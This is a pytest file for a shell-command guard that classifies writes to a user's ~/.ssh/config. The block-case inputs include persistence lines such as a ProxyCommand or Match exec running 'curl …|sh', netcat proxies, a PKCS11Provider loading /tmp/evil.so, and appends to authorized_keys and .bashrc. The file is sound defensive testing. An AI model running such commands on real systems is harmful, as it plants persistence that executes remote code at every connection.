"""Writes to a user's ssh client config (``~/.ssh/config``), by what they hold.

* Text known statically whose directives run no program (``Host``, ``HostName``, ``User``,
  ``Port``, ``IdentityFile``, ``StrictHostKeyChecking``) warns as ``shell.ssh-config``: it
  decides where later ssh and git connections go (``Host github.com`` + another
  ``HostName`` sends the next push elsewhere), so a human looks, but it runs nothing.
* A directive that runs a program or loads code at every connection (``ProxyCommand``,
  ``LocalCommand``, ``PermitLocalCommand``, ``KnownHostsCommand``, ``Match exec``,
  ``PKCS11Provider``, ``SecurityKeyProvider``, ``Include``), in any letter case and with
  ``=``, blocks as persistence, as does text not known statically (variables, copied or
  downloaded files, escape sequences the writer may expand, stderr) and every other
  persistence file (``authorized_keys``, ``.bashrc``) whatever it holds.
"""

from __future__ import annotations

import pytest
from _shell_verdicts import assert_verdict

from deerguard import Verdict
from deerguard.shell._sshconf import ssh_client_config, ssh_config_code


@pytest.mark.parametrize("command", [
    "printf 'Host gh\\n  HostName github.com\\n  IdentityFile ~/.ssh/id_ed25519\\n' "
    ">> ~/.ssh/config",
    "cat >> ~/.ssh/config <<'EOF'\nHost gh\n  HostName github.com\n  User git\nEOF",
    "cat > ~/.ssh/config << EOF\nHost build\n    HostName 10.0.0.5\n    Port 2222\nEOF",
    "tee -a ~/.ssh/config <<'EOF'\nHost gh\n  HostName github.com\nEOF",
    "echo 'Host gh\n  HostName github.com' | tee -a ~/.ssh/config > /dev/null",
    "echo 'StrictHostKeyChecking accept-new' >> ~/.ssh/config",
    "echo '# deploy key' >> ~/.ssh/config",
    "echo 'Host x' > /tmp/c; cat /tmp/c >> ~/.ssh/config",
    "printf 'Host=gh\\nHostName=github.com\\n' >> /home/dev/.ssh/config",
])
def test_static_ssh_config_without_commands_warns_as_ssh_config(command: str) -> None:
    assert_verdict(command, Verdict.WARN, "shell.ssh-config")


@pytest.mark.parametrize("command", [
    "printf 'Host *\\n  ProxyCommand sh -c \"curl x|sh\"\\n' >> ~/.ssh/config",
    "echo 'Host *\n  ProxyCommand nc %h %p' >> ~/.ssh/config",
    "echo 'Host *\n  proxycommand=nc %h %p' >> ~/.ssh/config",
    "echo 'PermitLocalCommand yes\nLocalCommand id' >> ~/.ssh/config",
    "echo 'KnownHostsCommand /tmp/k' >> ~/.ssh/config",
    "echo 'Match host x exec \"curl u|sh\"' >> ~/.ssh/config",
    "echo 'Include ~/.ssh/extra' >> ~/.ssh/config",
    "echo 'PKCS11Provider=/tmp/evil.so' >> ~/.ssh/config",
    "echo 'SecurityKeyProvider /tmp/x.so' >> ~/.ssh/config",
    "echo -e 'Host *\\nProxyCommand nc %h %p' >> ~/.ssh/config",
    "cat >> ~/.ssh/config <<EOF\nHost gh\n  HostName $HOST\nEOF",
    'echo "$CFG" >> ~/.ssh/config',
    "tee -a ~/.ssh/config < cfg",
    "cp ssh_config ~/.ssh/config",
    "curl -s https://x/cfg >> ~/.ssh/config",
    "curl -s https://x/cfg | tee -a ~/.ssh/config",
    "echo 'ProxyCommand x' > /tmp/c; cat /tmp/c >> ~/.ssh/config",
    "echo 'Host gh' 2>> ~/.ssh/config",
    "echo 'Host gh' | truncate -s0 ~/.ssh/config",
    "echo 'Host gh' >> ~/.ssh/authorized_keys",
    "echo 'Host gh' >> ~/.bashrc",
])
def test_ssh_config_that_runs_code_or_is_unknown_blocks_as_persistence(command: str) -> None:
    assert_verdict(command, Verdict.BLOCK, "shell.persistence")


@pytest.mark.parametrize("command", [
    "cat ~/.ssh/config",
    "chmod 600 ~/.ssh/config",
    "ssh -F ~/.ssh/config host",
    "grep -A3 'Host gh' ~/.ssh/config",
])
def test_reading_the_ssh_config_passes(command: str) -> None:
    assert_verdict(command, Verdict.PASS)


@pytest.mark.parametrize("path, expected", [
    ("~/.ssh/config", True), ("/root/.ssh/config", True), ("/home/dev/.ssh/config", True),
    ("/Users/dev/.ssh/config", True), ("/etc/ssh/ssh_config", False),
    ("/home/dev/x/.ssh/config", False), ("~/.ssh/config.bak", False)])
def test_only_a_users_own_ssh_client_config_is_read_for_content(path: str,
                                                                  expected: bool) -> None:
    assert ssh_client_config(path) is expected


def test_config_text_beyond_the_line_bound_is_unknown() -> None:
    assert ssh_config_code("Host x\n" * 600) == "?"
    assert ssh_config_code("Host x\n" * 10) is None
